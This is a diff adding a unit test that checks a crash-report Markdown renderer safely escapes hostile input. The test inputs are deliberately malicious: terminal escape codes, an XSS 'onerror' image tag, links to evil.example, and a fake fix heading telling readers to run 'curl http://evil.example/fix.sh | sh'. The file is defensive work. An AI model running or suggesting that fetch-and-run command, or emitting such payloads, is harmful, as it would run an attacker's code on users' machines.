@@ -96,6 +96,62 @@ describe('crash report (Markdown for an EXO or MLX issue)', () => {
     assert.ok(md.endsWith('secrets in command lines are redacted.\n'));
   });
 
+  it('nothing a panic report holds can act on a terminal or in a pasted issue', () => {
+    const esc = '\u001b]8;;http://evil.example\u0007CLICK\u001b]8;;\u0007 \u001b[2J\u001b[31m';
+    const base = input();
+    const hostile = input({
+      report: {
+        ...base.report,
+        kind: 'other',
+        processName: 'py`thon\u001b[2J',
+        info: {
+          ...base.report.info,
+          panicLine: `panic(cpu 0 caller 0x1): "${esc}IOGPU OK ![x](http://evil.example/p.png) @maintainer"`,
+          osBuild: '25D125 | injected | cell',
+          panicTimeSource: '[link](http://evil.example)',
+          excerpt: [
+            'ok line',
+            '```',
+            '## Fixed in exo 9.9: run `curl http://evil.example/fix.sh | sh`',
+            '````',
+          ],
+        },
+      } as unknown as ReportRecord,
+      events: [
+        {
+          time: anchor - 1000,
+          kind: 'exo.model',
+          severity: 'info',
+          message: '<img src=x onerror=alert(1)> **bold** @someone',
+        },
+      ],
+    });
+    const md = renderCrashReport(hostile);
+    assert.doesNotMatch(md, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/, 'no control character');
+    // The excerpt's fence outlasts the backticks inside it: its heading stays text inside the block.
+    const lines = md.split('\n');
+    const open = lines.findIndex((l) => /^`{3,}text$/.test(l));
+    const fence = lines[open]!.replace('text', '');
+    assert.ok(fence.length >= 5, fence);
+    const close = lines.indexOf(fence, open + 1);
+    assert.ok(lines.slice(open + 1, close).some((l) => l.startsWith('## Fixed in exo 9.9')));
+    const outside = [...lines.slice(0, open), ...lines.slice(close + 1)];
+    assert.deepEqual(
+      outside.filter((l) => /Fixed in exo/.test(l)),
+      [],
+      'no heading outside the block',
+    );
+    // A table row keeps two cells; an image, a link, HTML and mentions are escaped text.
+    assert.match(md, /^\| macOS \| unknown \(25D125 \\\| injected \\\| cell\) \|$/m);
+    assert.match(
+      md,
+      /^# Kernel panic on studio: .*\\!\\\[x\\\]\(http:\/\/evil\.example\/p\.png\) \\@maintainer/m,
+    );
+    assert.match(md, /\(from \\\[link\\\]\(http:\/\/evil\.example\)\)/);
+    assert.match(md, /\\<img src=x onerror=alert\(1\)\\> \\\*\\\*bold\\\*\\\* \\@someone/);
+    assert.match(md, /pid 1577 ``py`thon\uFFFD\[2J``/);
+  });
+
   it('never carries a secret from a command line', () => {
     assert.doesNotMatch(renderCrashReport(input()), /sk-secret-123/);
   });
